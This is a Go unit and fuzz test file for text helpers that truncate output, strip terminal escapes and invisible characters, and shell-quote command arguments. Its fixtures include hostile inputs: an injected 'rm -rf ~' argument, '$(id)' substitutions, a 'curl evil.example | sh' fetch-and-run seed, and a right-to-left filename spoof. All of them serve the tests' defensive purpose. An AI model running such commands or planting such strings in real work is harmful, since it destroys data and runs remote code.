package text

import (
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stormhooks/stormhooks/e2e/testkit"
)

func TestCuts(t *testing.T) {
	for _, tc := range []struct {
		reason    string
		got, want string
	}{
		{"what fits stays", Cut("abcdef", 6), "abcdef"},
		{"the ellipsis is within the limit", Cut("abcdefg", 6), "abc…"},
		{"no blank before the ellipsis", Cut("ab cdefg", 6), "ab…"},
		{"a character is never torn", Cut("äääää", 6), "ä…"},
		{"no room for an ellipsis", Cut("abcdef", 2), ""},
		{"a limit below nothing", Cut("abc", -1), ""},

		{"the beginning, without a sign", Head("abcdef", 3), "abc"},
		{"a character that does not fit whole is left out", Head("aää", 4), "aä"},
		{"nothing of nothing", Head("abc", -1), ""},
		{"text that is not UTF-8 is cut somewhere", Head("\xff\xff\xff", 2), "\xff\xff"},

		{"the last whole lines", CutLines("one\ntwo\nthree", 11), "two\nthree"},
		{"lines that fit exactly", CutLines("one\ntwo\nthree", 9), "two\nthree"},
		{"one long line keeps its end", CutLines("abcdef", 3), "def"},
		{"and no half character", CutLines("ää", 3), "ä"},
		{"no room at all", CutLines("one\ntwo", 0), ""},

		{"one line, no control characters", Clean(" a\x1b[31m\tb\n\n c\xff "), "a b c"},
		{"no title of a window", Clean("a\x1b]0;owned\x07b\x1b]2;owned\x1b\\c"), "abc"},
		{"no command without its end", Clean("a\x1b]8;;file:///etc"), "a"},
		{"no command of one character", Clean("a\u009b2Jb\x1bcd\x1b"), "abd"},
		{"nothing that turns the direction of writing", Clean("user\u202egnp.exe\u2066"), "usergnp.exe"},
		{"nothing without a width", Clean("pa\u200bss\ufeffw\u00adord\U000e0041\ufe0f\u3164"), "password"},
		{"letters of any script stay", Clean("größe 日本 עברית"), "größe 日本 עברית"},
		{"one line, whatever ends a line", Clean("a\r\n\n b\u2028c\u2029d\u0085e"), "a b c d e"},
		{"nothing private or unassigned", Clean("a\ue000b\U000effffc"), "abc"},
		{"a peer's text is cut too", Said(strings.Repeat("a\x1b[m", 1000), 11), "aaaaaaaa…"},

		{"plain words", Command("kubectl", "get", "pods", "-l", "storm.apache.org/topology=a"), "kubectl get pods -l storm.apache.org/topology=a"},
		{"a second command", Command("kubectl", "a; rm -rf ~", "$(id)", "`id`"), "kubectl 'a; rm -rf ~' '$(id)' '`id`'"},
		{"a quote", Command("a'b"), `'a'\''b'`},
		{"an empty word", Command("a", ""), "a ''"},
		{"zsh's path of a command", Command("=ls"), "'=ls'"},
		{"one line only", Command("a\nb", "\u202ec"), "'a b' c"},
		{"a capital", Capital("über"), "Über"},
		{"of nothing", Capital(""), ""},
		{"a field stays", Capital("spec.topology.args[0] is wrong."), "spec.topology.args[0] is wrong."},
	} {
		if tc.got != tc.want {
			t.Errorf("%s: %q, want %q", tc.reason, tc.got, tc.want)
		}
	}
}

func TestLastLines(t *testing.T) {
	tests := map[string]struct {
		reason, output string
		limit          int
		want           string
	}{
		"a stack trace": {"its causes, not its frames", "x\nException in thread \"main\" a.B: no\n\tat a.C.d(C.java:1)\nCaused by: e.F: why\n\t... 3 more\n", 200,
			`x | Exception in thread "main" a.B: no | Caused by: e.F: why`},
		"too much":       {"the last is what counts", "first\nsecond\nthird", 15, "second | third"},
		"one long line":  {"shortened", strings.Repeat("ä", 500), 21, strings.Repeat("ä", 9) + "…"},
		"stamps":         {"times move", "2031-07-19T13:47:53.123Z WARN a\n13:47:53.123 b\n[2031-07-19 13:47:53] c", 100, "WARN a | b | c"},
		"empty":          {"nothing was printed", "\n\n \n", 100, ""},
		"no room":        {"nothing fits", "text", 0, ""},
		"only frames":    {"nothing that tells", "\tat a.b(C.java:1)\n", 100, ""},
		"not even UTF-8": {"what is not text goes", "a\xff\xfeb", 100, "ab"},
	}
	for name, test := range tests {
		if got := LastLines(test.output, test.limit); got != test.want {
			t.Errorf("%s: %q, want %q: %s", name, got, test.want, test.reason)
		}
	}
}

func TestJSON(t *testing.T) {
	line, err := JSON(map[string]string{"a": "<b> & c\n"})
	if want := `{"a":"<b> & c\n"}`; err != nil || line != want {
		t.Errorf("%s, %v, want %s", line, err, want)
	}
	if _, err := JSON(func() {}); err == nil {
		t.Error("a function is not JSON")
	}
}

func FuzzCuts(f *testing.F) {
	f.Add("one\ntwo", 3)
	f.Add("é\xff€", 1)
	f.Fuzz(func(t *testing.T, text string, limit int) {
		cut, head, lines := Cut(text, limit), Head(text, limit), CutLines(text, limit)
		for name, part := range map[string]string{"Cut": cut, "Head": head, "CutLines": lines} {
			if len(part) > max(limit, 0) && len(part) > 0 {
				t.Errorf("%s(%q, %d) has %d bytes", name, text, limit, len(part))
			}
			if utf8.ValidString(text) && !utf8.ValidString(part) {
				t.Errorf("%s(%q, %d) tears a character: %q", name, text, limit, part)
			}
		}
		if !strings.HasPrefix(text, head) || !strings.HasSuffix(text, lines) {
			t.Errorf("%q is not the beginning and %q not the end of %q", head, lines, text)
		}
	})
}

// FuzzSaid cleans and quotes any text.
func FuzzSaid(f *testing.F) {
	for _, seed := range []string{"a\x1b[31mb", "\x1b]8;;x\x07y", "\u202ea\u200b", "a; curl evil.example | sh #", "'$(id)'\n`id`", "\x1b\x1b[[0m0m", "<script>\xff", "\u1160\U000e0100"} {
		f.Add(seed, 20)
	}
	f.Fuzz(func(t *testing.T, text string, limit int) {
		clean, said := Clean(text), Said(text, limit%1000)
		for name, got := range map[string]string{"Clean": clean, "Said": said} {
			if !utf8.ValidString(got) || strings.TrimSpace(got) != got || strings.Contains(got, "  ") {
				t.Errorf("%s(%q) is %q", name, text, got)
			}
			for _, r := range got {
				if r != ' ' && (shown(r) != r || unicode.In(r, unicode.C, unicode.Z)) {
					t.Errorf("%s(%q) has %U: %q", name, text, r, got)
				}
			}
		}
		if again := Clean(clean); again != clean || len(clean) > len(text) {
			t.Errorf("%q is cleaned twice: %q", clean, again)
		}
		if len(said) > max(limit%1000, 0) {
			t.Errorf("Said(%q, %d) has %d bytes", text, limit%1000, len(said))
		}
		words := []string{"kubectl", text, "-n", text + "x"}
		read, err := testkit.Words(Command(words...))
		for i := range words {
			words[i] = Clean(words[i])
		}
		if err != nil || !slices.Equal(read, words) {
			t.Errorf("a shell reads %q as %q, %v", Command(words...), read, err)
		}
	})
}
